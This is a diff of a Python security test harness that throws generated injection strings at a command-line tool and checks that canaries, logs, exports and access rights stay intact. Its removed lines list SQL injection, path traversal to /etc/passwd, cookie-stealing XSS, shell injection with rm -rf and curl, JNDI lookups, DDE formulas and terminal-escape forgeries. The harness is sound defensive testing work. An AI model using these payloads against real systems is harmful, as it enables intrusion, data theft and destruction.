@@ -3,22 +3,21 @@
 
     tools/check-attacks.py --runward target/release/runward [--backend postgres] [--quick]
 
-The strings are built here from parts, by category: SQL, path traversal, cross-site scripting,
-shell commands, templates, Unicode (bidi, zero width, confusables, lone forms, normalisation),
-formulas, log injection (line breaks, forged records, terminal escapes), format strings, and sizes
-at the limits. What must hold:
+The strings are those of tools/attack_texts.py, the inputs that take one of them at a time those of
+tools/attack_inputs.py. What must hold:
 
 - nothing is executed: canary files, tables and rows are as they were;
-- nothing is lost: every string is stored as it was sent, or refused, and a refusal is recorded;
+- nothing is lost: every string is stored as it was sent, or refused; a task's refusal is recorded;
 - nothing is forged: audit.json has exactly the records that were written, each line is one JSON
   object with its index, audit.log has as many lines; no export has a line, a cell or a formula that
   an attacker chose; no terminal escape reaches an output;
 - nobody comes in: a text in place of a token, an id or a role gives no right;
 - honest text comes back byte for byte (in Unicode's composed form, NFC).
 
-Inputs that take many texts at once (tasks and events as JSON lines, imports) get all of them; the
-others get all of them too, one process each, or `--sample` of them. `--quick` (for CI): a sample of
-every category for each input. Exit code 0: all of it holds.
+Inputs that take many texts at once (tasks and events as JSON lines, imports) get all attacks and
+350 honest texts; each of the others gets `--sample` attacks, one process each, two processes at a
+time. `--quick` (for CI): some hundred, and ten for each of the others, of every category. Exit
+code 0: all of it holds.
 """
 
 import argparse
@@ -28,12 +27,14 @@ import contextlib
 import csv
 import glob
 import io
-import itertools
 import json
 import os
 import pathlib
+import posixpath
 import random
+import re
 import shutil
+import signal
 import sqlite3
 import subprocess
 import sys
@@ -41,186 +42,8 @@ import tempfile
 import time
 import unicodedata
 
-CANARY = "runward_canary"
-
-
-def sql():
-    ends = ["", " --", " #", ";--", "/*", "\x00"]
-    heads = ["'", '"', "')", '")', "`", "';", "\\'", "1", "%27", "'''"]
-    bodies = [
-        "OR 1=1",
-        "OR 'a'='a",
-        f"; DROP TABLE {CANARY}",
-        "; DROP TABLE findings",
-        f"; INSERT INTO {CANARY} VALUES (1)",
-        "UNION SELECT 1,2,3",
-        "UNION SELECT name FROM sqlite_master",
-        "AND (SELECT pg_sleep(9))",
-        "; ATTACH DATABASE '{dir}/owned' AS o",
-        "; COPY (SELECT 1) TO '{dir}/owned'",
-        "; PRAGMA writable_schema=1",
-        "NEAR/1 OR *",
-    ]
-    return (f"{h} {b}{e}" for h, b, e in itertools.product(heads, bodies, ends))
-
-
-def traversal():
-    ups = ["../", "..\\", "%2e%2e/", "..%2f", "....//", "..;/", "%c0%ae%c0%ae/", "..%00/", "．．/"]
-    files = ["etc/passwd", "owned", "windows/win.ini", ".git/config", "proc/self/environ", "audit/audit.json"]
-    depths = [1, 3, 8]
-    heads = ["", "/", "file:///", "C:\\", "./", "\\\\host\\share\\"]
-    for up, file, depth, head in itertools.product(ups, files, depths, heads):
-        yield head + up * depth + file
-
-
-def scripts():
-    payloads = ["alert(1)", "fetch('//x/'+document.cookie)", "location='//x'"]
-    shapes = [
-        "<script>{}</script>",
-        "<img src=x onerror={}>",
-        '"><svg onload={}>',
-        "javascript:{}",
-        "[x](javascript:{})",
-        "<a href='java\tscript:{}'>x</a>",
-        "</title><script>{}</script>",
-        "<!--<img src='--><img src=x onerror={}//'>",
-        "{{constructor.constructor('{}')()}}",
-        "<iframe srcdoc='<script>{}</script>'>",
-        "<style>@import'{}'</style>",
-        "data:text/html,<script>{}</script>",
-        "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
-    ]
-    wraps = ["{}", "a{}b", "<b>{}</b>", "'{}'", "\"{}\""]
-    for payload, shape, wrap in itertools.product(payloads, shapes, wraps):
-        yield wrap.replace("{}", shape.replace("{}", payload))
-
-
-def commands():
-    actions = ["touch {dir}/owned", "cat /etc/passwd", "rm -rf {dir}/canary", "curl http://127.0.0.1:9/"]
-    shapes = ["; {}", "| {}", "& {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}\n", "%0a{}", "{}\x00", "'; {}; '",
-              '"; {}; "', "<({})", "${{IFS}}{}", "--config=$({})", "-exec {} ;", "\\$({})", "!{}"]
-    for action, shape in itertools.product(actions, shapes):
-        yield shape.replace("{}", action)
-    for shape in ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://127.0.0.1/a}", "{{config}}",
-                  "{% import os %}", "__proto__", "constructor", "%s%s%s%n", "%x" * 20, "{0.__class__}"]:
-        yield shape
-
-
-def unicode_tricks():
-    parts = {
-        "bidi": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
-        "zero width": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e",
-        "control": "".join(map(chr, [*range(0, 32), 127, *range(128, 160)])),
-        "separators": "\u2028\u2029\u0085\u00a0\u3000\u2000",
-        "tags": "\U000e0041\U000e0042\U000e007f",
-        "variation": "\ufe0e\ufe0f\U000e0100",
-        "confusable": "аеорсух．／＜＞＇＂；＝",
-        "invalid": "\ufffd\ufffe\uffff\U0010ffff",
-    }
-    words = ["admin", "fix login", "../x", "ok"]
-    for characters, word in itertools.product(parts.values(), words):
-        for character in characters:
-            middle = len(word) // 2
-            yield word[:middle] + character + word[middle:]
-        yield word + characters
-    yield "e" + "\u0301" * 60
-    yield "ﷺ" * 40
-    yield "İıſK" * 10
-    yield "\u1100\u1161\u11a8" * 20
-
-
-def formulas():
-    heads = ["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "'=", "\"=", ";=", ",="]
-    bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)", "IMPORTXML(A1)",
-              "DDE(\"cmd\";\"/C calc\")", "WEBSERVICE(\"http://x\")"]
-    return (h + b for h, b in itertools.product(heads, bodies))
-
-
-def log_forgeries():
-    breaks = ["\n", "\r\n", "\r", "\u2028", "\u0085", "\x0b", "\x0c", "\\n", "%0a", "\n\n"]
-    lines = [
-        '{"index": 0, "event_type": "login_succeeded"}',
-        '{"v":1,"store":"000000000000","seq":1,"event":{}}',
-        "2026-01-01 INFO all is well",
-        "CEF:0|x|y|1|2|3|9|act=x",
-        "— runward.example/log AAAA",
-        "]}",
-        "\x1b[2J\x1b[1;1Hcleared",
-        "\x1b]0;title\x07",
-        "\x1b]8;;http://x\x07link\x1b]8;;\x07",
-        "\b\b\b\b\b\b",
-    ]
-    for line_break, line in itertools.product(breaks, lines):
-        yield "text" + line_break + line
-    for field in ["|act=x", "=x|y\\", 'a"b', "a\\", "a,b", "a;b", "a\tb", "key=value other=value"]:
-        yield field
-
-
-CATEGORIES = {
-    "sql": sql,
-    "traversal": traversal,
-    "scripts": scripts,
-    "commands": commands,
-    "unicode": unicode_tricks,
-    "formula": formulas,
-    "log": log_forgeries,
-}
-
-
-def attacks(count, directory, rng):
-    """At least `count` different strings, of every category."""
-    found = {}
-    for category, make in CATEGORIES.items():
-        for text in make():
-            found.setdefault(text.replace("{dir}", str(directory)), category)
-    texts = list(found.items())
-    base = [text for text, _ in texts]
-    # Strings of one category inside those of another.
-    while len(texts) < count:
-        one, other = rng.sample(base, 2)
-        text = one + rng.choice(["", " ", "'", "\n", "/", "="]) + other
-        if text not in found:
-            found[text] = "mixed"
-            texts.append((text, "mixed"))
-    return texts
-
-
-def honest(rng):
-    """Text that people write, which looks dangerous at a glance."""
-    fixed = [
-        "fix --force flag",
-        "fix SQL: SELECT ... FROM users WHERE name = 'O''Brien'",
-        "don't drop table joins in report.py",
-        "upgrade lodash >= 4.17.21 && rebuild",
-        "C++ / C# interop; see ../README.md",
-        "<title> is missing on /login",
-        "use `rm -rf build/` in the Makefile",
-        "price = 3 * (a + b) - 1",
-        "-1 is returned where 0 is meant",
-        "@octocat asks: why 100% CPU?",
-        "naïve café, Straße, Ærøskøbing, İstanbul",
-        "日本語のタスク",
-        "עברית ועוד",
-        "العربية",
-        "हिन्दी में काम",
-        "emoji 👩‍👩‍👧 and 🏳️‍🌈 stay whole",
-        "tabs\tinside and 'quotes' \"here\"",
-        "=> arrow function, -> pointer, <- channel",
-        "50% | 60% & more; done",
-        "{{ mustache }} in a template",
-        "$HOME is not set; %PATH% either",
-        "path C:\\Users\\me\\x",
-        "email a.b+c@example.com",
-        "see https://example.com/a?b=c&d=e#f",
-        "null, undefined, NaN, true",
-    ]
-    verbs = ["fix", "review", "upgrade", "remove", "explain", "don't break", "re-check", "O'Brien's"]
-    things = ["login --verbose", "<input> escaping", "50% of `eval()` calls", "the \"admin\" role", "ü-umlaut in paths",
-              "CVE-2021-44228 (log4j)", "README.md & CHANGELOG", "a = b; c = d", "x | y", "../shared path", "#123: crash"]
-    where = ["", " in src/app.py", " before 2026-12-31", " (see #12)", " — urgent!"]
-    texts = fixed + [f"{v} {t}{w}" for v, t, w in itertools.product(verbs, things, where)]
-    rng.shuffle(texts)
-    return texts
+from attack_inputs import ACCESS, READS, WRITES
+from attack_texts import CANARY, attacks, honest
 
 
 class Failure(Exception):
@@ -305,7 +128,8 @@ class Program:
             timeout=600,
         )
         noise = done.stderr.decode(errors="replace")
-        require(done.returncode in codes, f"{words}: exit code {done.returncode}\n{noise}")
+        told = done.stdout.decode(errors="replace")[:2000]
+        require(done.returncode in codes, f"{words}: exit code {done.returncode}\n{told}{noise}")
         require("panicked" not in noise, f"{words}: {noise}")
         return done
 
@@ -346,8 +170,12 @@ class Program:
             after = ["--after", page["next"]]
 
 
+def composed(text):
+    return unicodedata.normalize("NFC", text.replace("\r\n", "\n"))
+
+
 def same(text, back):
-    return unicodedata.normalize("NFC", text.replace("\r\n", "\n")) == back
+    return composed(text) == back
 
 
 # Tasks as JSON lines: how a text goes into a field, and where it stands afterwards. The last says
@@ -381,7 +209,8 @@ def tasks_as_lines(program, texts, benign, counts):
             inputs.append(json.dumps(fields))
         given = ("\n".join(inputs) + "\n").encode()
         answers = program.lines("task", "create", "--json", "-", "--format", "json", codes=(0, 2), given=given)
-        require([answer["line"] for answer in answers] == list(range(1, len(texts) + 1)), f"{name}: answers are missing")
+        answered = [answer["line"] for answer in answers]
+        require(answered == list(range(1, len(texts) + 1)), f"{name}: answers are missing")
         listed, accepted = program.tasks(), 0
         for text, answer in zip(texts, answers, strict=True):
             if "id" not in answer:
@@ -416,7 +245,11 @@ def tasks_as_lines(program, texts, benign, counts):
 
 EVENT_FIELDS = {
     "details": (lambda text: {"details": {"note": text}}, lambda event: event["details"]["note"]),
-    "details key": (lambda text: {"details": {text: 1}}, lambda event: next(key for key in event["details"] if key != "reported")),
+    # `reported` is the program's own mark of an event that it was told.
+    "details key": (
+        lambda text: {"details": {text: 1}},
+        lambda event: next(key for key in event["details"] if key != "reported"),
+    ),
     "deep details": (lambda text: {"details": {"a": {"b": [text]}}}, lambda event: event["details"]["a"]["b"][0]),
     "reason": (lambda text: {"reason": text}, lambda event: event["reason"]),
     "subject id": (lambda text: {"subject": {"kind": "other", "id": text}}, lambda event: event["subject"]["id"]),
@@ -469,90 +302,66 @@ def events_as_lines(program, texts, benign, counts):
 
 
 def imports(program, texts, benign, counts):
-    """Findings of another tool, as JSON lines."""
-    fields = {"title": "title", "rule": "rule", "path": "path", "snippet": "snippet", "tool": "tool", "severity": "severity"}
-    for name in fields:
+    """Findings of another tool, as JSON lines: what is listed afterwards is what was sent."""
+    for name in ["title", "rule", "path", "snippet", "tool", "severity"]:
         lines = []
         for number, text in enumerate(texts):
-            finding = {"rule": f"r{number}", "title": f"t{number}", "severity": "low", "path": f"f{number}.py", "line": 1}
-            lines.append(json.dumps(finding | {name: text}))
+            finding = {"rule": f"r{number}", "title": f"t{number}", "path": f"f{number}.py", "line": 1}
+            lines.append(json.dumps(finding | {"severity": "low", name: text}))
         (program.directory / "found.jsonl").write_text("\n".join(lines) + "\n")
         project = f"{name}-import"
         words = ["--set", f"project.name={project}", "findings", "import", "--format", "jsonl"]
         done = program.run(*words, str(program.directory / "found.jsonl"), codes=(0, 1, 2, 4))
-        counts[f"findings import: {name}"] = done.stderr.decode(errors="replace").strip().splitlines()[-1:]
-        shown = program.run("findings", "list", "--all", "--project", project, codes=(0, 1, 2, 3))
-        clean(f"findings list after import of {name}", shown)
+        clean(f"findings import: {name}", done)
+        words = ["findings", "list", "--all", "--limit", "9999", "--project", project]
+        clean(f"findings list after import of {name}", program.run(*words, codes=(0, 1, 2, 3)))
+        listed = json.loads(program.run(*words, "--format", "json").stdout)["findings"]
+        counts[f"findings import: {name}"] = (len(listed), len(texts) - len(listed))
+        refused = done.stderr.count(b"cannot be used:")
+        # Of very many, the rest is a number.
+        refused += sum(map(int, re.findall(rb"(\d+) more entries like those before", done.stderr)))
+        require(
+            len(listed) + refused == len(texts),
+            f"import: of {len(texts)} findings with {name} {len(listed)} are listed and {refused} refused",
+        )
+        if name not in ("title", "rule", "path"):
+            continue
+        # Another of the finding's fields tells which line it comes from.
+        key = "rule" if name == "title" else "title"
+        sent = {f"{key[0]}{number}": text for number, text in enumerate(texts)}
+        for finding in listed:
+            text = sent.pop(finding[key])
+            # Each of these is one line, in which a tab is a space; paths are written in one way.
+            text_kept = posixpath.normpath(text.replace("\\", "/")) if name == "path" else text.replace("\t", " ")
+            kept = same(text_kept, finding[name])
+            require(kept or text not in benign, f"import: {name} {text!r} came back as {finding[name]!r}")
+        # A path has rules of its own; no rule's name holds a tab.
+        lost = [text for text in sent.values() if text in benign and "\t" not in text and name != "path"]
+        require(not lost, f"import: {len(lost)} honest texts are refused as {name}: {lost[:3]}")
 
 
 def clean(name, done):
     """Nothing of an output may drive a terminal, or begin a line of its own."""
     for output in (done.stdout, done.stderr):
         text = output.decode(errors="replace")
-        bad = [character for character in text if unicodedata.category(character) == "Cc" and character not in "\n\t"]
-        bad += [character for character in text if character in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"]
+        bad = [
+            character
+            for character in set(text)
+            if (unicodedata.category(character) in ("Cc", "Zl", "Zp") and character not in "\n\t")
+            or unicodedata.bidirectional(character) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
+        ]
         require(not bad, f"{name}: {set(bad)} reaches the terminal: {text[:300]!r}")
-
-
-# Inputs that take one text in a process. `{}` is the text.
-READS = {
-    "task search": ["task", "search", "--", "{}"],
-    "task list": ["task", "list", "--tag={}"],
-    "task list by names": ["task", "list", "--owner={}", "--repository={}", "--assignee={}"],
-    "task list --after": ["task", "list", "--after={}"],
-    "task list --sort": ["task", "list", "--sort={}", "--due-before={}"],
-    "task show": ["task", "show", "--", "{}"],
-    "audit search": ["audit", "search", "--", "{}"],
-    "audit search by names": ["audit", "search", "--user={}", "--subject={}", "--project={}", "--repository={}",
-                              "--correlation={}"],
-    "audit search --token": ["audit", "search", "--token={}"],
-    "audit search --address": ["audit", "search", "--address={}"],
-    "audit search --after": ["audit", "search", "--after={}"],
-    "audit search --since": ["audit", "search", "--since={}"],
-    "audit timeline": ["audit", "timeline", "--", "{}"],
-    "audit show": ["audit", "show", "--", "{}"],
-    "audit confirm": ["audit", "confirm", "--json=1", "--", "1", "{}"],
-    "findings list": ["findings", "list", "--text={}", "--package={}", "--path={}", "--project={}", "--reporter={}",
-                      "--rule={}"],
-    "findings list --after": ["findings", "list", "--after={}"],
-    "findings show": ["findings", "show", "--", "{}"],
-    "explain": ["explain", "--", "{}"],
-}
-
-WRITES = {
-    "task create": ["task", "create", "--repository=r", "--description={}", "--", "{}"],
-    "task update": ["task", "update", "T-1", "--title={}"],
-    "task assign": ["task", "assign", "--", "T-1", "{}"],
-    "task comment": ["task", "comment", "--", "T-1", "{}"],
-    "task block": ["task", "block", "--reason={}", "--", "T-2"],
-    "task gate": ["task", "gate", "add", "--", "T-1", "{}"],
-    "findings triage": ["findings", "triage", "--status=triaged", "--reason={}", "--", "{}"],
-    "findings accept": ["findings", "accept", "--reason={}", "--until={}", "--", "{}"],
-    "project.name": ["--set=project.name={}", "findings", "list"],
-    "project.repository": ["--set=project.repository={}", "task", "create", "--", "t"],
-}
-
-ACCESS = {
-    "access add": ["access", "add", "--name={}", "--email={}", "--", "{}"],
-    "access add --name": ["access", "add", "--name={}", "--", "ann"],
-    "access grant": ["access", "grant", "--", "{}", "{}"],
-    "access join": ["access", "join", "--role=viewer", "--", "boss", "{}"],
-    "access token": ["access", "token", "create", "--scope=read", "--", "{}"],
-    "access token --scope": ["access", "token", "create", "--scope={}", "--", "t"],
-    "access explain": ["access", "explain", "--", "{}", "view_task", "repository:r"],
-    "access explain resource": ["access", "explain", "--", "boss", "view_task", "{}"],
-    "access explain action": ["access", "explain", "--", "boss", "{}", "repository:r"],
-}
 
 
 VIOLATIONS = []
 
 
-def one_by_one(program, inputs, texts, counts, variables=None):
-    texts = [text for text in texts if "\0" not in text]  # No argument of a program can hold it.
+def each_alone(program, name, words, texts, variables=None):
+    """One process for each text. Their exit codes, in the order of the texts."""
 
-    def each(name, words, text):
-        filled = [word.replace("{}", text) for word in words]
+    def alone(numbered):
+        number, text = numbered
+        filled = [word.replace("{n}", str(number)).replace("{}", text) for word in words]
         try:
             done = program.run(*filled, codes=(0, 1, 2, 3, 4, 6), variables=variables)
             clean(f"{name}: {text!r}", done)
@@ -562,18 +371,77 @@ def one_by_one(program, inputs, texts, counts, variables=None):
             return "violation"
         return done.returncode
 
+    started = time.monotonic()
     with concurrent.futures.ThreadPoolExecutor(2) as pool:
-        for name, words in inputs.items():
-            started = time.monotonic()
-            codes = collections.Counter(pool.map(lambda text: each(name, words, text), texts))
-            counts[name] = {f"exit code {code}": number for code, number in sorted(codes.items(), key=str)}
-            print(f"{name}: {counts[name]}, {time.monotonic() - started:.0f} s", flush=True)
+        codes = list(pool.map(alone, enumerate(texts)))
+    said = {f"exit code {code}": number for code, number in sorted(collections.Counter(codes).items(), key=str)}
+    print(f"{name}: {said}, {time.monotonic() - started:.0f} s", flush=True)
+    return codes, said
+
+
+def reading(program, texts, counts):
+    """Nothing that is asked changes anything."""
+    for name, words in READS.items():
+        start = program.size()
+        _, counts[name] = each_alone(program, name, words, texts)
+        strange = {record["event_type"] for record in program.records(start)} - {"task_validation_failure"}
+        require(not strange, f"{name}: events that nobody caused: {strange}")
+
+
+def writing(program, texts, counts):
+    """What is accepted stands in the log, what is refused does not."""
+    for name, (words, kind, get) in WRITES.items():
+        start = program.size()
+        codes, counts[name] = each_alone(program, name, words, texts)
+        records = program.records(start)
+        made = [record for record in records if record["event_type"] == kind]
+        taken = [text for text, code in zip(texts, codes, strict=True) if code == 0]
+        strange = {record["event_type"] for record in records} - {kind, "task_validation_failure"}
+        require(not strange, f"{name}: events that nobody caused: {strange}")
+        require(len(made) == len(taken), f"{name}: {len(taken)} were accepted, {len(made)} events are there")
+        if name.startswith("task"):
+            refusals = sum(record["event_type"] == "task_validation_failure" and record["result"] == "failure"
+                           for record in records)
+            require(refusals == codes.count(2), f"{name}: {codes.count(2)} refusals, {refusals} events of them")
+        if get:
+            sent = collections.Counter(map(composed, taken))
+            kept = collections.Counter(composed(get(record)) for record in made)
+            # A secret inside of a text is cut out of the log.
+            other = [text for text in (kept - sent).elements() if "[redacted:" not in text]
+            require(not other, f"{name}: {len(other)} texts that nobody sent, for example {other[:2]}")
+        if name == "task comment":
+            shown = json.loads(program.run("task", "show", "--format=json", "T-1").stdout)
+            kept = [comment["body"] for comment in shown["comments"]]
+            require(sorted(kept) == sorted(map(composed, taken)), f"{name}: not the comments that were accepted")
+
+
+def asking_for_rights(program, texts, counts, token):
+    """Whoever is there afterwards was added, under the name that was sent, and may do nothing."""
+    admin = {"RUNWARD_TOKEN": token}
+    expected, prefixes, joined = {"boss": "boss"}, {"access add --email": "e", "access add --name": "n"}, set()
+    for name, words in ACCESS.items():
+        codes, counts[name] = each_alone(program, name, words, texts, admin)
+        if name == "access join repository":
+            joined = {composed(text) for text, code in zip(texts, codes, strict=True) if code == 0}
+        if name.startswith("access add"):
+            for number, (text, code) in enumerate(zip(texts, codes, strict=True)):
+                who = f"{prefixes[name]}{number}" if name in prefixes else text
+                if code == 0:
+                    expected[who] = composed(text).strip() if name == "access add --name" else who
+    people = json.loads(program.run("access", "list", "--format=json", variables=admin).stdout)["principals"]
+    found = {person["id"]: person["name"] for person in people}
+    wrong = set(found.items()) ^ set(expected.items())
+    require(not wrong, f"people who are not as they were added: {sorted(wrong)[:4]}")
+    for person in people:
+        rights = (person["roles"], set(person["memberships"]))
+        given = (["admin"], joined) if person["id"] == "boss" else ([], set())
+        require(rights == given, f"rights that nobody gave: {person}")
 
 
 def honest_one_by_one(program, texts, counts):
     """Honest text through the command line comes back byte for byte."""
-    back = 0
-    for text in texts:
+
+    def there_and_back(text):
         words = ["task", "create", "--repository=r", f"--description={text}", "--format=json", "--"]
         made = json.loads(program.run(*words, text.replace("\t", " ")).stdout)["task"]
         require(same(text, made["description"]), f"description: {text!r} came back as {made['description']!r}")
@@ -581,26 +449,28 @@ def honest_one_by_one(program, texts, counts):
         shown = json.loads(program.run("task", "show", "--format=json", f"T-{made['id']}").stdout)
         require(same(text, shown["comments"][0]["body"]), f"comment: {text!r} came back as {shown['comments']}")
         require(same(text, shown["task"]["description"]), f"task show: {text!r} came back changed")
-        back += 1
-    counts["honest text by arguments"] = back
+        require(same(text.replace("\t", " "), shown["task"]["title"]), f"the title {text!r} came back changed")
+
+    with concurrent.futures.ThreadPoolExecutor(2) as pool:
+        counts["honest text by arguments"] = sum(1 for _ in pool.map(there_and_back, texts))
 
 
 def without_rights(program, texts, counts):
     """Nothing that is sent in place of a token lets anybody in."""
-    codes = collections.Counter()
-    before = program.size()
-    sent = 0
-    for text in texts:
-        if "\0" in text:
-            continue
+
+    def try_it(text):
         done = program.run("task", "list", codes=(2, 6), variables={"RUNWARD_TOKEN": text})
         require(not done.stdout, f"the token {text!r} lets somebody in")
         clean(f"token {text!r}", done)
-        codes[done.returncode] += 1
-        sent += 1
-    refused = [record for record in program.records(before) if record["event_type"] == "login_failed"]
-    counts["token"] = dict(codes)
-    require(len(refused) <= sent, f"{len(refused)} refusals were recorded of {sent}")
+        return done.returncode
+
+    before = program.size()
+    with concurrent.futures.ThreadPoolExecutor(2) as pool:
+        codes = collections.Counter(pool.map(try_it, texts))
+    kinds = collections.Counter(record["event_type"] for record in program.records(before))
+    counts["token"] = {f"exit code {code}": number for code, number in codes.items()} | dict(kinds)
+    require(set(kinds) <= {"login_failed"}, f"texts in place of a token made the events {kinds}")
+    require(kinds["login_failed"] <= len(texts), f"{kinds['login_failed']} refusals were recorded of {len(texts)}")
 
 
 def check_exports(program):
@@ -649,15 +519,29 @@ def check_canaries(program, schema):
     require(program.database.schema() == schema, "the schema changed")
 
 
-def check(program, hostile, benign, arguments, rng, counts):
-    plant(program)
-    schema = program.database.schema()
-    texts = rng.sample(hostile, min(arguments.count, len(hostile))) + rng.sample(benign, min(350, len(benign)))
-    rng.shuffle(texts)
-    single = rng.sample(texts, min(arguments.sample or len(texts), len(texts)))
+def choose(categories, benign, arguments, rng):
+    """The texts for inputs that take many at once, and those for inputs that take one."""
+    hostile = list(categories)
+    # No argument of a program can hold the character 0.
+    possible = [text for text in hostile if "\0" not in text]
     if arguments.quick:
         texts = rng.sample(hostile, 250) + rng.sample(benign, 50)
-        single = rng.sample(texts, 6)
+        # What turns text around, what drives a terminal, and one of each category.
+        single = ["ad\u202emin", "ad\x1bmin"]
+        for category in sorted(set(categories.values())):
+            single.append(rng.choice([text for text in possible if categories[text] == category]))
+        require(set(single) <= set(possible), "a chosen text is none of the attacks")
+    else:
+        texts = hostile + rng.sample(benign, 350)
+        single = rng.sample(possible, arguments.sample)
+    rng.shuffle(texts)
+    return texts, single
+
+
+def check(program, categories, benign, arguments, rng, counts):
+    plant(program)
+    schema = program.database.schema()
+    texts, single = choose(categories, benign, arguments, rng)
     started = time.monotonic()
     for step in (tasks_as_lines, events_as_lines, imports):
         step(program, texts, set(benign), counts)
@@ -665,22 +549,23 @@ def check(program, hostile, benign, arguments, rng, counts):
     check_canaries(program, schema)
     check_exports(program)
     honest_one_by_one(program, benign[: 10 if arguments.quick else 300], counts)
-    one_by_one(program, READS | WRITES, single, counts)
+    reading(program, single, counts)
+    writing(program, single, counts)
     # From here on, a token is asked for.
     token = program.run("access", "init", "boss").stdout.decode().strip()
-    one_by_one(program, ACCESS, single, counts, {"RUNWARD_TOKEN": token})
+    asking_for_rights(program, single, counts, token)
     admin = {"RUNWARD_TOKEN": token}
     # Exports are for auditors.
     program.run("access", "grant", "boss", "auditor", variables=admin)
-    people = program.run("access", "list", "--format=json", variables=admin).stdout.decode()
-    require(people.count('"admin"') == 1, f"there is another admin: {people}")
     without_rights(program, single, counts)
     program.environment |= admin
     check_exports(program)
     program.records()
     program.run("audit", "verify")
-    program.run("store", "check")
     check_canaries(program, schema)
+    # A table that is not Runward's is a problem of the store.
+    program.database.execute(f"DROP TABLE {CANARY}")
+    program.run("store", "check")
 
 
 def main():
@@ -688,8 +573,8 @@ def main():
     parser.add_argument("--runward", required=True)
     parser.add_argument("--backend", choices=["sqlite", "postgres"], default="sqlite")
     parser.add_argument("--seed", type=int, default=1)
-    parser.add_argument("--count", type=int, default=2200, help="attacks for each input")
-    parser.add_argument("--sample", type=int, default=0, help="texts for inputs that take one at a time; 0: all")
+    parser.add_argument("--count", type=int, default=2200, help="at least so many attacks")
+    parser.add_argument("--sample", type=int, default=2000, help="attacks for inputs that take one at a time")
     parser.add_argument("--quick", action="store_true", help="a sample for each input, for CI")
     parser.add_argument("--keep", help="work in this directory and leave it")
     arguments = parser.parse_args()
@@ -701,13 +586,15 @@ def main():
     require(len(hostile) >= 2000 and len(benign) >= 300, f"{len(hostile)} attacks, {len(benign)} honest texts")
     by_category = collections.Counter(category for _, category in hostile)
     print(f"{len(hostile)} attacks {dict(by_category)}, {len(benign)} honest texts", flush=True)
+    # Whoever ends this ends the server that it started, too.
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
     started = time.monotonic()
     counts = {}
     database = None
     try:
         database = (Postgres if arguments.backend == "postgres" else Sqlite)(directory)
         program = Program(str(pathlib.Path(arguments.runward).resolve()), directory, database)
-        check(program, [text for text, _ in hostile], benign, arguments, rng, counts)
+        check(program, dict(hostile), benign, arguments, rng, counts)
     except Failure as failure:
         print(f"failed: {failure}\nthe files are in {directory}", file=sys.stderr)
         return 1
